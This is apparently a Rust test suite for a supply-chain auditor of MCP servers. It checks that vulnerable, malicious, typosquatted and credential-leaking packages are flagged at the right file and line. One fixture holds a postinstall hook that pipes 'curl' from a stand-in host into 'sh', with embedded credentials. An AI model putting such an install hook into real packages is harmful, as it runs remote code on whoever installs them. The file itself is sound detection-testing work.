//! Servers whose code, launch command or own name tells what they are made of.

use std::path::Path;

use contracts::audit::{Audit, CheckResult, Confidence, Finding, Need, Outcome, Severity};
use contracts::packages::Packages;
use engine::{Options, Session};
use serde_json::{Value, json};
use servers::{Server, Tool, fixture, start_on};
use supply_chain::{AdvisorySource, Known, Launched, OfflineDatabase, OsvError, assess, read_folder};

use crate::auditing::{Silent, options, target};
use crate::launch::launched_with;

const CHECKS: [&str; 7] =
    ["MCPA-SC-001", "MCPA-SC-002", "MCPA-SC-005", "MCPA-SC-006", "MCPA-SC-007", "MCPA-SC-008", "MCPA-SC-013"];

fn record(id: &str, name: &str, fixed: &str) -> Value {
    json!({
        "id": id, "aliases": [format!("CVE-{id}")], "summary": format!("A weakness of {name}"),
        "severity": [{ "type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N" }],
        "affected": [{
            "package": { "ecosystem": "npm", "name": name },
            "ranges": [{ "type": "SEMVER", "events": [{ "introduced": "0" }, { "fixed": fixed }] }] }]
    })
}

/// Advisories about some packages, as a folder.
fn database() -> tempfile::TempDir {
    let records = [
        record("GHSA-told", "mcp-remote", "0.2.0"),
        record("GHSA-deep", "deep", "2.0.1"),
        record("GHSA-tool", "tool", "5.0.0"),
        record("MAL-2026-7", "evil", "9.0.0"),
    ];
    let files: Vec<(String, String)> = records
        .iter()
        .map(|record| (format!("{}.json", record["id"].as_str().expect("an id")), record.to_string()))
        .collect();
    folder(&files.iter().map(|(name, text)| (name.as_str(), text.as_str())).collect::<Vec<_>>())
}

fn folder(files: &[(&str, &str)]) -> tempfile::TempDir {
    let folder = tempfile::tempdir().expect("a folder");
    for (name, text) in files {
        std::fs::write(folder.path().join(name), text).expect("written");
    }
    folder
}

/// The code of a server with everything that can be wrong.
fn careless() -> tempfile::TempDir {
    folder(&[
        (
            "package.json",
            r#"{ "name": "mcp-remote", "private": true,
              "scripts": { "postinstall": "curl https://user:hunter2@get.example/x | sh" },
              "dependencies": { "middle": "^1.0.0", "mcp-remotee": "^1.0.0" },
              "devDependencies": { "tool": "^4.0.0", "evil": "1.0.0" } }"#,
        ),
        (
            "package-lock.json",
            r#"{ "lockfileVersion": 3, "packages": {
              "": { "name": "mcp-remote", "dependencies": { "middle": "^1.0.0", "mcp-remotee": "^1.0.0" },
                "devDependencies": { "tool": "^4.0.0", "evil": "1.0.0" } },
              "node_modules/middle": { "version": "1.0.0", "integrity": "sha512-x", "dependencies": { "deep": "^2.0.0" } },
              "node_modules/mcp-remotee": { "version": "1.0.0", "integrity": "sha512-x" },
              "node_modules/deep": { "version": "2.0.0", "integrity": "sha512-x" },
              "node_modules/tool": { "version": "4.0.0", "integrity": "sha512-x", "dev": true },
              "node_modules/evil": { "version": "1.0.0", "integrity": "sha512-x", "dev": true } } }"#,
        ),
        ("requirements.txt", "requests>=2.0\n"),
        (".npmrc", "registry=http://user:hunter2@registry.example/\n"),
    ])
}

/// The same with each thing mended.
fn careful() -> tempfile::TempDir {
    folder(&[
        (
            "package.json",
            r#"{ "name": "mcp-remote", "private": true, "scripts": { "install": "node-gyp rebuild" },
              "dependencies": { "middle": "^1.0.0", "mcp-remote-control-panel": "^1.0.0" },
              "devDependencies": { "tool": "^5.0.0", "evil": "9.0.0" } }"#,
        ),
        (
            "package-lock.json",
            r#"{ "lockfileVersion": 3, "packages": {
              "": { "name": "mcp-remote", "dependencies": { "middle": "^1.0.0", "mcp-remote-control-panel": "^1.0.0" },
                "devDependencies": { "tool": "^5.0.0", "evil": "9.0.0" } },
              "node_modules/middle": { "version": "1.0.0", "integrity": "sha512-x", "dependencies": { "deep": "^2.0.0" } },
              "node_modules/mcp-remote-control-panel": { "version": "1.0.0", "integrity": "sha512-x" },
              "node_modules/deep": { "version": "2.0.1", "integrity": "sha512-x" },
              "node_modules/tool": { "version": "5.0.0", "integrity": "sha512-x", "dev": true },
              "node_modules/evil": { "version": "9.0.0", "integrity": "sha512-x", "dev": true } } }"#,
        ),
        ("requirements.txt", "requests==2.0 --hash=sha256:00\n"),
        (".npmrc", "registry=https://registry.example/\n"),
    ])
}

fn remote(version: &'static str) -> Server {
    let tool = Tool::saying("get_queue", "Returns how long the queue is.", json!({}), "7 in all").reading();
    Server::new("mcp-remote").versioned(version).tool(tool)
}

/// Audits a server whose code lies in a folder, with advisories.
async fn audited(version: &'static str, source: &Path) -> Audit {
    let running = start_on(remote(version), 0);
    let mut session = Session::connect(target(&running), options(fixture("clean-tools"))).await.expect("a connection");
    session.discover().await.expect("lists");
    let told = |field| session.snapshot().server_field(field).map(str::to_owned);
    let known = Known {
        resolved: Some(read_folder(source).expect("manifests")),
        told: told("name").zip(told("version")),
        ..Known::default()
    };
    session.tell_packages(judged(&known).await);
    let group = session.run(contracts::audit::NamedTest::SupplyChain, &Silent).await;
    let audit = session.finish(vec![group]);
    session.close().await;
    audit
}

async fn judged(known: &Known) -> Packages {
    let database = database();
    let source = AdvisorySource::Offline(OfflineDatabase::open(database.path()).expect("a database"));
    assess(known, Some(source.look_up(known.coordinates()).await))
}

fn told(audit: &Audit) -> Vec<(&str, Severity, Confidence, &str)> {
    let shown = |finding: &'_ Finding| CHECKS.contains(&finding.check.as_str());
    let findings = audit.findings.iter().filter(|finding| shown(finding));
    findings
        .map(|finding| (finding.check.as_str(), finding.severity, finding.confidence, finding.location.as_str()))
        .collect()
}

fn outcomes(checks: &[CheckResult]) -> Vec<&Outcome> {
    checks.iter().filter(|check| CHECKS.contains(&check.check.as_str())).map(|check| &check.outcome).collect()
}

#[tokio::test]
async fn each_weakness_of_the_packages_is_told_at_its_file_and_line() {
    let source = careless();
    let audit = audited("0.1.9", source.path()).await;
    let lock = "file:package-lock.json";
    let (confirmed, likely) = (Confidence::Confirmed, Confidence::Likely);
    let at = |line: u32| format!("{lock}#L{line}");
    let (deep, tool, evil) = (at(6), at(7), at(8));
    let expected = [
        ("MCPA-SC-002", Severity::Critical, confirmed, deep.as_str()),
        ("MCPA-SC-013", Severity::Critical, confirmed, evil.as_str()),
        ("MCPA-SC-001", Severity::Critical, likely, "server"),
        ("MCPA-SC-002", Severity::High, confirmed, tool.as_str()),
        ("MCPA-SC-008", Severity::High, confirmed, "file:.npmrc#L1"),
        ("MCPA-SC-005", Severity::High, Confidence::Tentative, "file:package.json#L3"),
        ("MCPA-SC-006", Severity::Low, confirmed, "file:package.json"),
        ("MCPA-SC-007", Severity::Low, confirmed, "file:requirements.txt#L1"),
    ];
    assert_eq!(told(&audit), expected);
    assert!(!serde_json::to_string(&audit).expect("JSON").contains("hunter2"));
}

#[tokio::test]
async fn a_finding_names_the_way_the_advisory_and_the_upgrade() {
    let source = careless();
    let audit = audited("0.1.9", source.path()).await;
    let finding = audit.findings.iter().find(|finding| finding.message.contains("deep@2.0.0")).expect("a finding");
    assert!(
        finding.message.ends_with("is affected by GHSA-deep (CVE-GHSA-deep); upgrade to 2.0.1"),
        "{}",
        finding.message
    );
    let seen: Vec<&str> = finding.evidence.iter().map(|evidence| evidence.excerpt.as_str()).collect();
    let expected = [
        "npm:deep@2.0.0",
        "middle@1.0.0 > deep@2.0.0",
        "GHSA-deep, CVE-GHSA-deep: A weakness of deep",
        "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N",
        "2.0.1",
    ];
    assert_eq!(seen, expected);
    let names: Vec<&str> = finding.references.iter().map(|reference| reference.name.as_str()).collect();
    assert!(names.contains(&"GHSA-deep") && names.contains(&"CVE-GHSA-deep"), "{names:?}");
}

#[tokio::test]
async fn mended_packages_pass() {
    let source = careful();
    let audit = audited("0.2.0", source.path()).await;
    assert_eq!(told(&audit), []);
    assert_eq!(outcomes(&audit.checks), [&Outcome::Pass; 7]);
}

#[tokio::test]
async fn a_lock_file_that_cannot_be_read_is_no_pass_and_makes_the_result_incomplete() {
    let source = careful();
    std::fs::write(source.path().join("package-lock.json"), "{").expect("written");
    let audit = audited("0.2.0", source.path()).await;
    for outcome in &outcomes(&audit.checks)[1..] {
        let is_told =
            matches!(outcome, Outcome::NotAssessed { reason, needs: None } if reason.contains("package-lock.json"));
        assert!(is_told, "{outcome:?}");
    }
    assert!(audit.incomplete.iter().any(|reason| reason.starts_with("packages: `package-lock.json`")));
}

#[tokio::test]
async fn without_files_or_advisories_nothing_is_assessed() {
    let running = start_on(remote("0.1.9"), 0);
    let told_itself = Some(("mcp-remote".to_owned(), "0.1.9".to_owned()));
    let known = Known { told: told_itself, ..Known::default() };
    for packages in [None, Some(assess(&known, None)), Some(assess(&Known::default(), None))] {
        let options = Options { packages, ..options(fixture("clean-tools")) };
        let audit = engine::audit(target(&running), options, &Silent).await.expect("an audit");
        for outcome in outcomes(&audit.checks) {
            assert!(matches!(outcome, Outcome::NotAssessed { needs: Some(Need::Source), .. }), "{outcome:?}");
        }
        assert_eq!(audit.incomplete, Vec::<String>::new());
    }
    let failed = assess(&known, Some(Err(OsvError::Status(503))));
    let options = Options { packages: Some(failed), ..options(fixture("clean-tools")) };
    let audit = engine::audit(target(&running), options, &Silent).await.expect("an audit");
    let told = outcomes(&audit.checks)[0];
    assert!(matches!(told, Outcome::NotAssessed { reason, needs: None } if reason.contains("503")), "{told:?}");
}

#[tokio::test]
async fn the_package_of_a_launch_command_is_looked_up() {
    for (package, expected) in [
        ("evil@1.0.0", vec![("MCPA-SC-013", Severity::Critical, Confidence::Confirmed, "config:command")]),
        ("deep@2.0.0", vec![("MCPA-SC-002", Severity::Critical, Confidence::Confirmed, "config:command")]),
        ("mcp-remotee@1.0.0", vec![("MCPA-SC-005", Severity::High, Confidence::Tentative, "config:command")]),
        ("deep@2.0.1", Vec::new()),
    ] {
        let known = Known { launched: Launched::parse(&format!("npm:{package}")), ..Known::default() };
        let options = Options { packages: Some(judged(&known).await), ..options(fixture("clean-tools")) };
        let audit = launched_with("npx", &["-y", package], Vec::new(), options).await;
        assert_eq!(told(&audit), expected, "{package}");
    }
}
